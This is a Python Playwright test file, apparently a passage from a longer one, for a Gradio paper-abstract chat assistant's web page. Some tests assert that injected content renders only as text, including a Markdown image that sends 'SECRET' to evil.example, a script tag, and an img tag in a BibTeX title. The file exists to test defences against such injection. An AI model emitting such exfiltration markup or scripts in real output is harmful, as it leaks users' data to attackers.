            passages=[Passage(paper_id=p.id, title=p.title, score=0.9, text=p.abstract) for p in (EVIL_PAPER, TRAP)],
        )
        yield Final(answer=answer)


def test_model_and_abstract_text_cannot_inject_markup(browser: Browser) -> None:
    app, url = serve(ScriptedAssistant())
    try:
        page, outside = open_page(browser, url)
        ask(page, "Why do zebras have stripes?")
        expect(page.locator("#aa-status")).to_contain_text("scripted")
        bubble = page.locator("#aa-chat .aa-answer").last
        expect(bubble).to_contain_text("![leak](https://evil.example/pixel.png?q=SECRET)")  # shown as text
        expect(bubble).to_contain_text("<script>document.title='owned'</script>")
        expect(bubble).to_contain_text("**bold**")
        expect(bubble).to_contain_text("[9]")
        expect(bubble.locator(".aa-math .katex")).to_have_count(4)  # typeset, \\href and \\url untrusted
        page.locator("#aa-sources .aa-card").nth(1).wait_for()
        shot(page, "safety.png")

        for where in ("#aa-chat", "#aa-sources"):
            assert page.locator(f"{where} img, {where} iframe, {where} script, {where} .x").count() == 0, where
        chat_links = page.locator("#aa-chat a:not(.aa-copy)").evaluate_all("as => as.map(a => a.getAttribute('href'))")
        # only the resolved marker ([9] resolves to nothing), to the quoted sentence it closes, which the page holds
        assert len(chat_links) == 1 and chat_links[0].startswith("#src-1-1"), chat_links
        assert page.locator(f"#aa-sources mark{chat_links[0]}").count() == 1, chat_links
        source_links = page.locator("#aa-sources a:not(.aa-open):not(.aa-back)").evaluate_all("as => as.map(a => a.getAttribute('href'))")
        assert source_links == ["https://example.org/stripes"], source_links  # never javascript:, nor \\href
        opening = page.locator("#aa-sources a.aa-open").evaluate_all("as => as.map(a => a.getAttribute('href'))")
        assert opening and set(opening) == {"#"}  # a retrieved paper's title opens it here, in the Papers tab
        # what a screen reader announces for each message is its text, never the page's HTML
        labels = page.locator("#aa-chat [aria-label*='message']")
        expect(labels.last).to_have_attribute("aria-label", re.compile(r"^bot's message: Zebras stripe \[1\]\. !\[leak\]"))
        assert not [a for a in labels.evaluate_all("es => es.map(e => e.getAttribute('aria-label'))") if "class=" in a]
        bibtex = page.locator("#aa-bibtex")
        expect(bibtex).to_contain_text("title = {{Stripes <img src=https://evil.example/t.png>}}")  # the references' BibTeX, as text too
        assert page.title() == "Abstract Assistant"
        assert outside == [], outside
        page.close()
    finally:
        app.close()


LAID_OUT = (
    "Zebras stripe for **two reasons** [1]:\n\n1. *heat*, which `stripes` shed [1]\n2. flies [1]\n\n"
    "Horses would stripe too in Africa. " + ATTACK
)


PARTIAL = {"support": "partial", "notice": "One sentence cites no abstract <b>bold?</b> ![n](https://evil.example/n.png)"}


class ModelAssistant(ScriptedAssistant):
    """ATTACK again, written by a model in Markdown: its layout is shown, and still nothing else acts."""

    def stream(self, question: str, history: object = None, filters: object = None, **overrides: object) -> Iterator[object]:
        for event in super().stream(question, history, filters, **overrides):
            if isinstance(event, Final):
                yield Final(answer=event.answer.model_copy(update={"text": LAID_OUT, "mode": "openai", **PARTIAL}))
            elif not isinstance(event, TextDelta):
                yield event


def test_a_models_markdown_is_laid_out_on_the_page_and_still_cannot_inject(browser: Browser) -> None:
    app, url = serve(ModelAssistant())
    try:
        page, outside = open_page(browser, url)
        ask(page, "Why do zebras have stripes?")
        bubble = page.locator("#aa-chat .aa-answer").last
        expect(bubble.locator("strong").first).to_have_text("two reasons")
        expect(bubble.locator("ol > li")).to_have_count(2)
        expect(bubble.locator("ol > li").first.locator("em")).to_have_text("heat")
        expect(bubble.locator("ol code")).to_have_text("stripes")
        uncited = bubble.locator(".aa-uncited")  # the one sentence citing nothing is marked, and says why on hover
        expect(uncited).to_have_count(1)
        expect(uncited).to_have_text("Horses would stripe too in Africa.")
        expect(uncited).to_have_attribute("title", re.compile("cites no source"))
        expect(bubble).to_contain_text("![leak](https://evil.example/pixel.png?q=SECRET)")  # shown as text
        expect(bubble).to_contain_text("<script>document.title='owned'</script>")
        said = "One sentence cites no abstract <b>bold?</b> ![n](https://evil.example/n.png)"  # as text, here and below
        expect(page.locator("#aa-chat")).to_contain_text(said)
        expect(page.locator("#aa-status")).to_contain_text(f"support partial · openai · settings scripted · {said}")
        assert page.locator("#aa-status b, #aa-status strong, #aa-status img").count() == 0
        shot(page, "model-markdown.png")
        assert page.locator("#aa-chat img, #aa-chat iframe, #aa-chat script, #aa-chat .x").count() == 0
        chat_links = page.locator("#aa-chat a:not(.aa-copy)").evaluate_all("as => as.map(a => a.getAttribute('href'))")
        assert chat_links and all(h.startswith("#src-1-1") for h in chat_links), chat_links
        # Copy puts the model's words, as written, and the numbered references on the clipboard
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        copy = page.locator("#aa-chat a.aa-copy").last
        expect(copy).to_be_visible()
        copy.click()
        expect(copy).to_have_text("Copied")
        copied = page.evaluate("navigator.clipboard.readText()")
        assert copied.startswith(LAID_OUT.strip()), copied[:200]
        assert copied.endswith("\n\nReferences:\n[1] Stripes <img src=https://evil.example/t.png>\n[2] Trap"), copied[-200:]
        # the caveat shown under the answer goes with it, as text
        assert f"\n\nSupport: partial\nNote: {said}\n\nReferences:" in copied, copied
        assert page.url.endswith("/"), page.url  # the link's "#" was not followed
        assert page.title() == "Abstract Assistant"
        assert outside == [], outside
        page.close()
    finally:
        app.close()


class SlowAssistant(ScriptedAssistant):
    """A model that reads the prompt for a few seconds before it writes, as a local one does."""

    def ask(self, question: str, history: object = None, filters: object = None, **overrides: object) -> Answer:
        """It answers the page's example questions (so it offers them)."""
        return Answer(question=question, text="Zebras stripe [1].", citations=[], abstained=False, settings_hash="slow")

    def stream(self, question: str, history: object = None, filters: object = None, **overrides: object) -> Iterator[object]:
        yield Status(stage="retrieving")
        yield Status(stage="waiting")
        time.sleep(4)
        yield from super().stream(question, history, filters, **overrides)


class FailingAssistant(SlowAssistant):
    """Answers slowly, and "fail" with an error, as a dead LLM endpoint does."""

    def stream(self, question: str, history: object = None, filters: object = None, **overrides: object) -> Iterator[object]:
        if question == "fail":
            raise AssistantError("the model server at http://127.0.0.1:9 did not answer")
        yield from super().stream(question, history, filters, **overrides)


def test_a_server_gone_mid_answer_is_said_and_the_question_is_back_after_a_reload(browser: Browser) -> None:
    """The server stopped while it answered: the page showed a bare "Error", counted the wait on and kept every
    control locked, and the question was gone. Now it says so, and after a reload the question is in the box.
    An answer that fails with the server up gives the controls back (they stayed off: Gradio ran no `.then`
    after the failure) and is not taken for a lost server."""
    port = free_port()
    app = ui.build_app(FailingAssistant())
    url = ui.launch(app, host="127.0.0.1", port=port, block=False)
    page, _ = open_page(browser, url)
    ask(page, "fail")
    expect(page.locator(".toast-body").first).to_contain_text("did not answer")
    expect(page.locator("#aa-ask")).to_be_enabled()
    expect(page.locator("#aa-stop")).to_be_hidden()
    expect(page.locator("#aa-question textarea")).to_have_value("fail")  # given back, to ask again
    page.wait_for_timeout((style.LOST_AFTER_S + 2) * 1000)  # an absence: the check runs every second
    expect(page.locator("#aa-status .aa-lost")).to_have_count(0)
    question = "Why do zebras have stripes?"
    ask(page, question)
    expect(page.locator("#aa-status")).to_contain_text("Waiting for the model")
    app.close()
    expect(page.locator("#aa-status .aa-lost")).to_contain_text("Lost the connection to the server")
    expect(page.locator("#aa-status")).not_to_contain_text("Waiting")
    expect(page.locator("#aa-stop")).to_be_hidden()
    shot(page, "chat-server-lost.png", full_page=False)
    app = ui.build_app(SlowAssistant())
    ui.launch(app, host="127.0.0.1", port=port, block=False)  # the server back, at the same address
    try:
        try:
            page.reload(wait_until="load")
        except PlaywrightError:  # ERR_ABORTED: the page's own reconnect reloaded it first (seen in CI)
            page.wait_for_load_state("load")
        expect(page.locator("#aa-question textarea")).to_have_value(question)
        page.locator("#aa-ask").click()  # Gradio has the value too: asked again, and answered
        expect(page.locator("#aa-chat .aa-question").last).to_contain_text(question)
        expect(page.locator("#aa-chat .aa-answer:not(.aa-pending) a.aa-cite").first).to_be_visible()
        assert page.evaluate("sessionStorage.getItem('aa-lost-question')") is None  # put back once, not at every load
        page.close()
    finally:
        app.close()


class SlowListing(ScriptedAssistant):
    """Lists its papers slowly once `slow` is set (a loaded server), and searches them at once."""

    slow = False

    def papers(self, limit: int | None = None) -> list[Paper]:
        if self.slow:
            time.sleep(3)
        return super().papers(limit)

    def search_papers(self, query: str, limit: int) -> tuple[list[Paper], int]:
        found = [p for p in super().papers() if query.lower() in p.title.lower()]
        return found[:limit], len(found)


def test_a_search_typed_as_the_papers_tab_opens_is_not_overwritten_by_the_tab_s_listing(browser: Browser) -> None:
    """Opening the Papers tab lists the papers for the search as it was; typed right after, "zebra" got its own list,
    then the opening's list, answered last, replaced it ("75 of 75 papers" under "zebra"; seen in CI)."""
    assistant = SlowListing()
    app, url = serve(assistant)
    try:
        page, _ = open_page(browser, url)
        assistant.slow = True
        page.get_by_role("tab", name="Papers").click()
        page.locator("#aa-paper-search textarea, #aa-paper-search input").first.fill("trap")
        expect(page.locator("#aa-paper-count")).to_contain_text("1 of 2 papers")
        page.wait_for_timeout(4000)  # the listing the tab's opening asked for has come and gone
        expect(page.locator("#aa-paper-count")).to_contain_text("1 of 2 papers")
        page.close()
    finally:
        app.close()


def test_two_tabs_keep_their_own_conversations_across_reloads(browser: Browser) -> None:
    """Both tabs saved to one place in the browser: the last to save won, and after a reload both showed its
    conversation, the other tab's question gone. Each tab now reloads its own; a new tab opens the last saved."""
    app, url = serve(ScriptedAssistant())
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    try:
        def tab() -> Page:
            page = context.new_page()
            page.set_default_timeout(WAIT)
            page.goto(url, wait_until="load", timeout=WAIT)
            page.locator("#aa-question textarea").wait_for()
            return page

        def asked(page: Page, question: str, count: int) -> None:
            ask(page, question)
            expect(page.locator("#aa-chat .aa-answer:not(.aa-pending)")).to_have_count(count)
            page.wait_for_function(  # saved with the conversation (ANSWER_SAVED_JS ends the chain after it)
                "() => sessionStorage.getItem('aa-pending-question') === null"
            )

        def questions(page: Page) -> list[str]:
            page.reload(wait_until="load")
            page.locator("#aa-chat .aa-question").first.wait_for()
            return [q.strip() for q in page.locator("#aa-chat .aa-question").all_inner_texts()]

        first = tab()
        asked(first, "first tab, first question", 1)
        second = tab()
        expect(second.locator("#aa-chat .aa-question")).to_have_count(1)  # a new tab opens the conversation saved last
        asked(second, "second tab's question", 2)
        asked(first, "first tab, second question", 2)
        assert questions(second) == ["first tab, first question", "second tab's question"]
        assert questions(first) == ["first tab, first question", "first tab, second question"]
    finally:
        context.close()
        app.close()


def test_a_reload_while_the_answer_is_on_its_way_puts_the_question_back(browser: Browser) -> None:
    """Reloaded within a moment of Ask, the question was gone from the chat and from the box (a helper reloading
    150 ms after Ask); the conversation is saved only with its answer. The tab keeps the question until then."""
    app, url = serve(SlowAssistant())
    try:
        page, _ = open_page(browser, url)
        question = "Why do zebras have stripes?"
        ask(page, question)
        page.reload(wait_until="load")
        expect(page.locator("#aa-question textarea")).to_have_value(question)
        page.locator("#aa-ask").click()  # Gradio has the value too: asked, and answered
        expect(page.locator("#aa-chat .aa-answer:not(.aa-pending)").last).to_contain_text("Zebras stripe")
        page.close()
    finally:
        app.close()


def test_a_slow_answer_can_be_stopped_and_nothing_else_starts_meanwhile(browser: Browser) -> None:
    """Ask and Retry stayed on while an answer was pending: a second question vanished, a retry took the pending
    question's place. Now they are off, Stop is on, and the wait counts its seconds."""
    app, url = serve(SlowAssistant())
    try:
        page, _ = open_page(browser, url)
        question = "Why do zebras have stripes?"
        ask(page, question)
        stop = page.locator("#aa-stop")
        expect(stop).to_be_visible()
        expect(page.locator("#aa-ask")).to_be_disabled()
        expect(page.locator("#aa-retry")).to_be_disabled()
        expect(page.locator("#aa-clear")).to_be_disabled()
        expect(page.locator("#aa-question textarea")).to_be_disabled()  # Enter cannot start a second answer
        expect(page.locator("#aa-examples")).to_be_hidden()  # nor can an example question
        expect(page.locator("#aa-status")).to_contain_text(re.compile(r"Waiting for the model… [1-9]\d* s"))
        stop.click()
        expect(page.locator("#aa-question textarea")).to_have_value(question)  # given back, to ask again
        expect(page.locator("#aa-chat .aa-answer")).to_have_count(0)
        expect(page.locator("#aa-status")).to_contain_text("Stopped")
        expect(stop).to_be_hidden()
        expect(page.locator("#aa-ask")).to_be_enabled()
        expect(page.locator("#aa-examples")).to_be_visible()
        page.locator("#aa-ask").click()  # asked again, and left to finish
        expect(page.locator("#aa-chat .aa-answer:not(.aa-pending) a.aa-cite").first).to_be_visible()
        expect(stop).to_be_hidden()
        expect(page.locator("#aa-retry")).to_be_enabled()
        assert page.locator("#aa-chat .aa-question").count() == 1  # the stopped exchange left no trace
        page.close()
    finally:
        app.close()

